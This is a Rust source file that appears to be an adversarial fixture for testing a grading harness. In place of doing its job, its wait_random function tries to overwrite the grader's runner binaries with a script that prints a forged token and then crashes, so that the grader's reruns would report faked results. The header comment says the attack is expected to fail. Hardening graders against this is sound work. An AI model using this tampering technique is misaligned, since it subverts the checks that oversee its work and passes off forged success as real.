//! Attack: replace the runner binary, then crash, so that the grader's
//! per-check reruns execute the replacement. Tries the runner as the child
//! sees it and every slot's runner in the cache by its host path.
//! Must not: change any runner binary. Every rerun is the real runner, so
//! every check that calls wait_random crashes with SIGABRT.
use std::time::Duration;

pub const DEFAULT_MAX_DELAY: Duration = Duration::from_secs(10);

const REPLACEMENT: &[u8] = b"#!/bin/sh\necho forged-@@TOKEN@@\n";

pub async fn wait_random(_max_delay: Duration) -> Duration {
    let mut targets = vec![std::path::PathBuf::from("/grader/grade-runner")];
    if let Ok(exe) = std::env::current_exe() {
        targets.push(exe);
    }
    for slot in 0..4 {
        targets.push(format!("@@CACHE@@/slots/{slot}/target/debug/grade-runner").into());
    }
    for target in &targets {
        let _ = std::fs::write(target, REPLACEMENT);
        let _ = std::fs::rename("/tmp/replacement", target);
        if let Some(dir) = target.parent() {
            let _ = std::fs::write(dir.join("grade-runner.new"), REPLACEMENT);
            let _ = std::fs::rename(dir.join("grade-runner.new"), target);
        }
    }
    std::process::abort()
}
